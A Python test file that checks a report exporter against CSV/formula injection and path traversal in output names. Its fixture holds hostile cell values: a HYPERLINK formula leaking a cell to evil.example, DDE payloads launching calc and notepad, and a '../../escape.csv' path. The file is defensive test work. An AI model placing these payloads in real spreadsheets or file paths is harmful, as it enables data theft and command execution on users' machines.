"""Security 18: exports a human opens in a spreadsheet program (OWASP ASVS 5.2 / CSV injection).

Every name that comes from the inventory (province, department, commune, station) is set to a
hostile text starting with ``= + - @`` (and tab / CR); the real export pipeline (build_report ->
write_files, CSV and XLSX) must leave no cell anywhere that a spreadsheet would run as a
formula, and keep each text intact behind the escaping apostrophe. Output names built from the
inventory (the province slug goes into the file prefix) cannot leave the output directory.
"""

from __future__ import annotations

import csv
import io
import json
import tomllib

import pytest
from openpyxl import load_workbook

from collector.export.config import ExportFormat
from collector.export.errors import OutputPathError
from collector.export.report import build_report
from collector.export.run import write_files
from collector.export.safe import output_path
from collector.inventory import parse_inventory
from tests.test_export_figures import DATA, INVENTORY_TOML, OCT

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {  # inventory name -> hostile text (written into the TOML with JSON escaping)
    "Cao Bằng": '=HYPERLINK("http://evil.example/?"&A1,"Cao Bằng")',
    "Sở VHTTDL Cao Bằng": "+cmd|' /C calc'!A0",
    "=Phường Thục Phán": "-2+3+cmd|' /C notepad'!A0",
    "Xã Bảo Lâm": "@SUM(1+9)*cmd|' /C calc'!A0",
    "Sông Hiến": "\t=1+1",
    "Đề Thám": "\r=1+1",
    "Pác Miầu": "=1+1",
}


def hostile_inventory():
    text = INVENTORY_TOML
    for old, new in HOSTILE.items():
        assert f'"{old}"' in text
        text = text.replace(f'"{old}"', json.dumps(new, ensure_ascii=False))
    return parse_inventory(tomllib.loads(text))


def _cells_csv(path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_no_cell_of_any_export_is_a_formula(tmp_path):
    inventory = hostile_inventory()
    names = [inventory.province.name, *(c.name for c in inventory.communes.values()),
             *(s.name for s in inventory.stations.values())]  # fmt: skip
    report = build_report(inventory, DATA, OCT, 0)
    paths = write_files(report, tmp_path, "t", [ExportFormat.CSV, ExportFormat.XLSX], "en")
    csv_cells = [c for p in paths if p.suffix == ".csv" for c in _cells_csv(p)]
    workbook = load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    xlsx_cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]

    assert not [c for c in csv_cells if c.startswith(FORMULA_START)]
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    texts = [c.value for c in xlsx_cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    # The text is still there, verbatim behind the apostrophe, where it is shown.
    shown = set(csv_cells) | set(texts)
    present = [n for n in names if "'" + n in shown]
    assert len(present) >= 4, present


@pytest.mark.parametrize("slug", ["..", "...", "a..b"])
def test_an_inventory_slug_cannot_move_the_output(tmp_path, slug):
    out = tmp_path / "out"
    prefix = f"loaxa-{slug}-2026-10"  # how collector/export/run.py names the files
    with pytest.raises(OutputPathError):
        output_path(out, f"{prefix}/../../escape.csv")
    report = build_report(hostile_inventory(), DATA, OCT, 0)
    try:
        paths = write_files(report, out, prefix, [ExportFormat.CSV], "en")
    except OutputPathError:
        paths = []
    assert all(p.parent == out.resolve() for p in paths)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
